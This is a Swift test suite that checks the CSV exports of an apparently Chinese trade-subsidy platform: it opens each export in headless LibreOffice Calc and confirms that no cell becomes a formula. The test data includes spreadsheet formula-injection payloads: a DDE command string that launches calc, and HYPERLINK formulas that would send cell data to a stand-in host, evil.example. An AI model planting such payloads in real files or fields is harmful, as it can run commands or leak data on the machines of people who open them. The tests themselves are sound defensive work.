import Foundation
import KuajingApp
import KuajingDomain
import KuajingTestSupport
import Monitoring
import Testing
import Storage

/// Issue 19, item 5: the files the platform writes open safely. The payment file of a batch whose
/// payee text begins like a formula is opened by LibreOffice Calc (headless, CSV import with formula
/// evaluation on, as a person opening it would) and saved as flat ODS: no cell is a formula, and the
/// text is there as text. A control file with a raw `=1+1` shows the check can fail.
@Suite(.enabled(if: SpreadsheetSafety.soffice != nil, "LibreOffice（soffice）未安装：scripts/test.sh 会安装 libreoffice-calc-nogui"))
struct SpreadsheetSafetyTests {
    @Test func thePaymentFileHasNoFormulaWhenLibreOfficeOpensIt() async throws {
        let w = try await CashOutChecks.world(.sqlite)
        let desk = ApplicationDesk(w.context), payouts = PayoutDesk(w.context)
        let me = CashOutChecks.enterprise(w.company)
        let invoice = try await CashOutChecks.evidence(w, me, "发票")
        let filed = try await desk.submit(me, .init(enterpriseID: w.company, matter: "trademark_registration", date: "2025-03-10", amount: "100000.00", evidence: [invoice]))
        _ = try await desk.review(CashOutChecks.analyst, id: filed.application.id, .init(decision: .approve, amount: nil, reason: "核准"))
        let cert = try await CashOutChecks.evidence(w, me, "开户许可证")
        let payee = try await payouts.enterPayee(me, .init(enterpriseID: w.company, bank: "@SUM(1+1)*cmd|'/C calc'!A0", accountNo: "330104001234",
                                                           holder: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此核对\")", evidence: cert))
        _ = try await payouts.confirmPayee(CashOutChecks.admin, id: payee.id)
        let exported = try await payouts.export(CashOutChecks.admin)
        let opened = try SpreadsheetSafety.open(csv: exported.csv)
        #expect(!opened.contains("table:formula"), "LibreOffice found a formula in the payment file")
        #expect(opened.contains("HYPERLINK") && opened.contains("@SUM(1+1)"), "the payee's text is kept, as text")
        #expect(try SpreadsheetSafety.open(csv: "a,b\r\n=1+1,x\r\n").contains("table:formula"), "the control: a raw formula is evaluated on import")
        try await w.store.close()
    }

    /// The other CSVs people download: the 运行监测 table and the monthly report, on a ledger with a
    /// declaration whose change is negative (a `-` cell that must stay a number, not become text).
    @Test func theMonitoringTableAndTheReportHaveNoFormula() async throws {
        let store = try await TestEngine.sqlite.store()
        let context = try testContext(store: store)
        let company = CashOutChecks.code(601)
        try await store.registry.upsert([EnterpriseRow(id: company, creditCode: company, name: "=HYPERLINK(\"http://evil.example\")", district: "滨江区")])
        let dir = try Repository.temporaryDirectory("calc-src")
        let header = "declaration_no,date,direction,supervision_code,enterprise_id,enterprise_name,district,customs_code,country,hs_code,value_cny,currency,value_original,status"
        let csv = [header, "SAFE00000000000001,2024-06-05,E,9710,\(company),=HYPERLINK(\"x\"),滨江区,2921,USA,6109100021,900.00,CNY,900.00,放行",
                   "SAFE00000000000002,2025-06-05,E,9710,\(company),=HYPERLINK(\"x\"),滨江区,2921,USA,6109100021,300.00,CNY,300.00,放行"].joined(separator: "\n") + "\n"
        try Data(csv.utf8).write(to: URL(fileURLWithPath: dir + "/d.csv"))
        _ = try await TradeIngest(context).run(paths: [dir + "/d.csv"])
        let admin = CashOutChecks.admin
        let monitor = TradeMonitor(context)
        let table = try await monitor.table(admin, by: [.month, .district, .code], filter: .init())
        let monitorOpened = try SpreadsheetSafety.open(csv: try monitor.csv(table))
        #expect(!monitorOpened.contains("table:formula"), "the 运行监测 table holds no formula")
        let reporting = MonthlyReporting(context)
        let report = try await reporting.build(scope: "杭州市", month: Month(year: 2025, month: 6))
        let reportCSV = String(decoding: try reporting.render(report, as: .csv), as: UTF8.self)
        let reportOpened = try SpreadsheetSafety.open(csv: reportCSV)
        #expect(!reportOpened.contains("table:formula"), "the monthly report holds no formula")
        #expect(reportCSV.contains("-66.7%") && !reportCSV.contains("'-66.7%"), "the year-on-year change (300 against 900) stays a number")
        try await store.close()
    }
}

enum SpreadsheetSafety {
    static let soffice: String? = ["/usr/bin/soffice", "/usr/bin/libreoffice", "/usr/local/bin/soffice"].first { FileManager.default.isExecutableFile(atPath: $0) }

    /// The CSV as LibreOffice Calc reads it (UTF-8, comma, formulas evaluated), saved as flat ODS XML.
    static func open(csv: String) throws -> String {
        let dir = try Repository.temporaryDirectory("calc")
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let file = dir + "/file.csv"
        try Data(csv.utf8).write(to: URL(fileURLWithPath: file))
        let p = Process()
        p.executableURL = URL(fileURLWithPath: soffice ?? "/usr/bin/soffice")
        // CSV filter options: separator 44 (,), quote 34 ("), charset 76 (UTF-8), first line 1, …, token 13 "evaluate formulas" true.
        p.arguments = ["--headless", "--norestore", "-env:UserInstallation=file://" + dir + "/profile",
                       "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true", "--convert-to", "fods", "--outdir", dir, file]
        p.standardOutput = FileHandle.nullDevice
        p.standardError = FileHandle.nullDevice
        try p.run()
        p.waitUntilExit()
        guard p.terminationStatus == 0, let xml = try? String(contentsOfFile: dir + "/file.fods", encoding: .utf8) else {
            throw AppError.unavailable(message: "LibreOffice could not open the CSV (exit \(p.terminationStatus))")
        }
        return xml
    }
}
